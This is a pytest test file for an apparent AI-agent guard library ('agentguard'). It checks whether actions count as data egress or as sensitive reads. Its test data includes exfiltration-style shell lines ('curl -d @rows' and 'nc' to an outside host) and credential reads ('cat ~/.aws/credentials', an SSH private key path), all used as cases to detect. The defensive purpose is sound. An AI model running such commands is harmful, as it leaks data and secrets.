"""What leaves, and what is sensitive."""

from __future__ import annotations

from typing import Any

import pytest

from agentguard.core import Action, Flow, Integrity, Label, Resource, Risk, Sensitivity, Sink
from agentguard.facts import FactExtractor, FactSettings

OUT = Flow(sink=Sink.EXTERNAL)
OUTSIDE = Resource("thing/a", "thing")
LISTED = Resource("thing/a", "thing", sensitivity=Sensitivity.PUBLIC, listed=True)
SECRET = Resource("thing/a", "thing", sensitivity=Sensitivity.RESTRICTED, listed=True)


def fact(name: str, source: str, value: Any, resource: Resource = OUTSIDE, **more: Any) -> Any:
    extractor = FactExtractor(FactSettings(("partner.example", "pypi.org"), ("shop.example",)))
    schema = {"properties": {"a": {"facts": source}} if source else {}}
    action = Action("act", 1, "", Risk.HIGH, schema, **more)
    view = extractor.view(action, {"a": value}, resource)
    return view.get(name) if "flow" in view.families else None


EGRESS = [
    ("url", "https://elsewhere.example/", OUTSIDE, True),
    ("url", "https://api.github.com/", OUTSIDE, True),
    ("url", "https://api.github.com/", LISTED, True),
    ("url", "https://pypi.org/", OUTSIDE, False),
    ("url", "https://partner.example/", OUTSIDE, False),
    ("url", "https://api.openai.com/", OUTSIDE, False),
    ("url", "http://10.0.0.7/", OUTSIDE, False),
    ("url", "http://localhost:8080/", OUTSIDE, False),
    ("url", "no url", OUTSIDE, True),
    ("mail", "ann@shop.example", OUTSIDE, False),
    ("mail", ["ann@shop.example", "eve@evil.example"], OUTSIDE, True),
    ("mail", "nobody", OUTSIDE, True),
    ("", "", OUTSIDE, True),
    ("", "", LISTED, False),
]


@pytest.mark.parametrize(("source", "value", "resource", "expected"), EGRESS)
def test_data_leaves_where_who_gets_it_is_not_known_to_be_inside(
    source: str, value: Any, resource: Resource, *, expected: bool
) -> None:
    assert fact("flow.egress", source, value, resource, flow=OUT) is expected


def test_what_only_reads_or_stays_inside_does_not_leave() -> None:
    url = "https://elsewhere.example/"
    assert fact("flow.egress", "url", url, flow=OUT, tags=("read-only",)) is None
    assert fact("flow.egress", "url", url, flow=Flow(sink=Sink.INTERNAL)) is None
    assert fact("flow.egress", "", "") is None


COMMANDS = [
    ("curl -d @rows https://elsewhere.example/", True),
    ("cat rows | nc elsewhere.example 80", True),
    ("curl https://partner.example/ https://elsewhere.example/", True),
    ("curl -d @rows https://partner.example/", False),
    ("git clone https://github.com/a/b", False),
    ("ls -la", False),
]


@pytest.mark.parametrize(("line", "expected"), COMMANDS)
def test_program_that_sends_to_others_is_egress(line: str, *, expected: bool) -> None:
    assert fact("flow.egress", "shell", line) is expected


SENSITIVE = [
    ("path:read", "/home/ann/.ssh/id_rsa", True),
    ("path:read", "/workspace/.env", True),
    ("path:read", "/etc/passwd", False),
    ("path:read", "/workspace/notes.md", False),
    ("path:write", "/workspace/.env", False),
    ("shell", "cat ~/.aws/credentials", True),
    ("shell", "cat notes.md", False),
]


@pytest.mark.parametrize(("source", "value", "expected"), SENSITIVE)
def test_file_of_a_sensitive_class_is_sensitive_to_read(source: str, value: str, *, expected: bool) -> None:
    assert fact("flow.sensitive", source, value) is expected


def test_what_the_inventory_or_the_action_says_is_sensitive() -> None:
    gives = Flow(source=Label())
    assert fact("flow.sensitive", "", "", SECRET, flow=gives) is True
    assert fact("flow.sensitive", "", "", SECRET, tags=("read-only",)) is True
    assert fact("flow.sensitive", "", "", SECRET) is None
    assert fact("flow.sensitive", "", "", LISTED, flow=gives) is None
    unknown = Resource("thing/a", "thing", sensitivity=None)
    assert fact("flow.sensitive", "", "", unknown, flow=gives) is None
    critical = Flow(source=Label(Integrity.VERIFIED, Sensitivity.CRITICAL))
    assert fact("flow.sensitive", "", "", OUTSIDE, flow=critical) is True
